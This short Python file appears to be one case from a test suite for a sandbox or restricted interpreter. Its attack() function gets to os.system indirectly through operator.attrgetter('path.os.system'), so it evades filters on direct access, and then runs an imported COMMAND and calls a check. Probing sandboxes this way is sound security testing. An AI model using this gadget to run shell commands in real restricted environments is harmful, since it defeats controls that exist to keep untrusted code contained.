import operator
import os

from target import COMMAND, check


def attack():
    operator.attrgetter("path.os.system")(os)(COMMAND)
    return check()
